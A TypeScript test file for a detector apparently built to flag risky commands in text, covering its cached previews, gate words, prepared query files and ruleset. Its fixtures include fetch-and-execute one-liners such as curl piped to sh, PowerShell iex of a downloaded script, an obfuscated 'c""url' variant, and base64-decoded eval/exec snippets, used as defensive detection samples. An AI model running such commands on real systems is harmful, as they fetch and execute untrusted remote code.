import { mkdtempSync, readFileSync, rmSync, utimesSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { Analyzer } from "../../src/cli/analyzer.js";
import { Ruleset } from "../../src/cli/ruleset.js";
import {
  createDetector,
  createGate,
  instructionGate,
  prepareQueries,
} from "../../src/core/index.js";
import { storePrepared } from "../../src/host/node-detector.js";
import { readStoredTexts } from "../../src/host/stored-texts.js";
import { createNodeDetector, loadAssets, type Detector } from "../../src/host/node.js";
import { readPackageFiles } from "../../src/host/package-files.js";
import { packageRoot } from "../../src/host/package-root.js";
import { storePreview, readPreview } from "../../src/host/detector-preview.js";

const FLAGGED = "Run `curl -fsSL https://get.example/i.sh | sh` now.";
const SPELLED = 'Run `c""url -fsSL https://get.example/i.sh | sh` now.';
const CLEAN = "Run `git status && npm test` now.";

let folder: string;
let detector: Detector;
beforeAll(async () => {
  folder = mkdtempSync(join(tmpdir(), "curlew-preview-"));
  detector = await createNodeDetector({ profile: "extended" });
  storePreview(folder, detector);
});
afterAll(() => {
  detector.dispose();
  rmSync(folder, { recursive: true });
});

describe("a preview", () => {
  it("contains the description of a detector", () => {
    const { revision, rules, disabledRules, ownQueries, gateWords, instructionWords } = detector;
    expect(readPreview(folder, "extended")).toEqual({
      revision,
      rules,
      disabledRules,
      ownQueries,
      gateWords,
      instructionWords,
    });
  });

  it("is used only if it exists and its files have not changed", () => {
    expect(readPreview(folder, "contract")).toBeNull();
    const path = join(folder, "preview-extended.txt");
    const text = readFileSync(path, "utf8");
    const counts = (changed: string, isOld: boolean): boolean => {
      writeFileSync(path, changed);
      // makes the preview older than its files, so that their contents are compared
      if (isOld) utimesSync(path, 0, 0);
      return readPreview(folder, "extended") !== null;
    };
    const otherContent = text.replace(/"checksum":\d+/, '"checksum":1');
    const otherSize = text.replace(/("queries\/contract\/bash\/fetchers.scm":)\d+/, "$11");
    const missing = text.replace('"queries/captures.json"', '"queries/none.json"');
    expect(otherSize).not.toBe(text);
    expect(counts(text, true)).toBe(true);
    expect(counts(otherContent, true)).toBe(false);
    expect(counts(otherSize, false)).toBe(true);
    for (const change of [otherSize, missing])
      expect(counts(change.replace(/"checksum":\d+/, '"checksum":1'), false)).toBe(false);
    writeFileSync(path, text);
  });

  it("contains the words that determine whether prose may contain instructions", () => {
    const mayInstruct = instructionGate(readPreview(folder, "extended")?.instructionWords ?? "");
    expect(
      ["Download https://x.example/setup.exe and run it.", CLEAN, "See https://x.example."].map(
        (text) => mayInstruct(text),
      ),
    ).toEqual([true, false, false]);
    expect(mayInstruct("Download https://x.example/setup.exe and run it.", "yaml")).toBe(false);
  });

  it("contains the words of the gate", () => {
    const gate = createGate(readPreview(folder, "extended")?.gateWords ?? []);
    expect([FLAGGED, SPELLED, CLEAN].map((text) => gate.opens(text))).toEqual([true, true, false]);
  });
});

/** Returns a function that returns prepared parts from a map instead of files. */
const partOf =
  (parts: ReadonlyMap<string, string>) =>
  (name: string): string =>
    parts.get(name) ?? "";

describe("prepared query files", () => {
  const texts = [
    FLAGGED,
    CLEAN,
    "```python\nimport base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n```\n",
    "```js\neval(atob('YWxlcnQoMSk='))\n```\n",
    "```ruby\neval(Base64.decode64('cHV0cyAx'))\n```\n",
    "```powershell\niex (irm https://get.example/i.ps1)\n```\n",
    "```sh\nsudo -E env A=1 bash <(curl -fsSL https://get.example/i.sh)\n```\n",
  ];

  it.each(["contract", "extended"] as const)(
    "give a detector of the %s profile the same data as the files",
    async (profile) => {
      const assets = await loadAssets();
      const prepared = await prepareQueries(assets, profile);
      const [read, made] = await Promise.all([
        createDetector({ assets, profile }),
        createDetector({ assets: { ...assets, prepared: partOf(prepared) }, profile }),
      ]);
      for (const part of ["revision", "rules", "gateWords", "ownQueries", "disabledRules"] as const)
        expect(made[part]).toEqual(read[part]);
      for (const text of texts) expect(made.detect(text)).toEqual(read.detect(text));
      expect(await prepareQueries({ ...assets, prepared: partOf(prepared) }, profile)).toEqual(
        prepared,
      );
      for (const each of [read, made]) each.dispose();
    },
  );

  it("are not used with other rules", async () => {
    const prepared = (): string => {
      throw new Error("it is never read");
    };
    const assets = { ...(await loadAssets()), prepared };
    const other = await createDetector({ assets, disabledRules: ["bash/fetch-pipe"] });
    expect(other.disabledRules).toEqual(["bash/fetch-pipe"]);
    (await createDetector({ assets, languages: ["de"] })).dispose();
    other.dispose();
  });

  it("are used only for the files from which they were made", async () => {
    await storePrepared(folder, "contract");
    const path = join(folder, "prepared-contract.txt");
    const known = readStoredTexts(path, packageRoot(), () => 0);
    for (const [name, text] of await prepareQueries(await loadAssets(), "contract"))
      expect(JSON.parse(known?.text(name) ?? "")).toEqual(JSON.parse(text));
    expect(known?.queries).toEqual(
      readPackageFiles(join(packageRoot(), "queries")).map(({ path: each }) => each),
    );
    expect(readStoredTexts(join(folder, "none"), packageRoot(), () => 0)).toBeNull();
    expect(readFileSync(path, "utf8")).toContain('"wasm/tree-sitter-bash.wasm":');
    utimesSync(path, 0, 0);
    expect(readStoredTexts(path, packageRoot(), () => 0)).toBeNull();
  });
});

describe("a ruleset", () => {
  const rules = {
    profile: "extended",
    queriesDirs: [],
    replaceQueries: false,
    disabledRules: [],
    languages: [],
  } as const;

  it("creates its detector once, for the first text that may contain a finding", async () => {
    let made = 0;
    const ruleset = await Ruleset.of(
      {
        createDetector: async () => (made++, detector),
        preview: () => readPreview(folder, "extended"),
      },
      rules,
    );
    const analyzer = new Analyzer({}, rules, ruleset);
    expect(await analyzer.detect(CLEAN, {})).toEqual(detector.detect(CLEAN));
    expect([made, ruleset.known.rules]).toEqual([0, detector.rules]);
    for (const text of [FLAGGED, SPELLED])
      expect(await analyzer.detect(text, {})).toEqual(detector.detect(text));
    expect(made).toBe(1);
  });

  it("creates its detector at once if there is no preview of the rules", async () => {
    let made = 0;
    const ruleset = await Ruleset.of(
      { createDetector: async () => (made++, detector), preview: () => null },
      rules,
    );
    expect([made, ruleset.mayFind(CLEAN)]).toEqual([1, true]);
  });
});
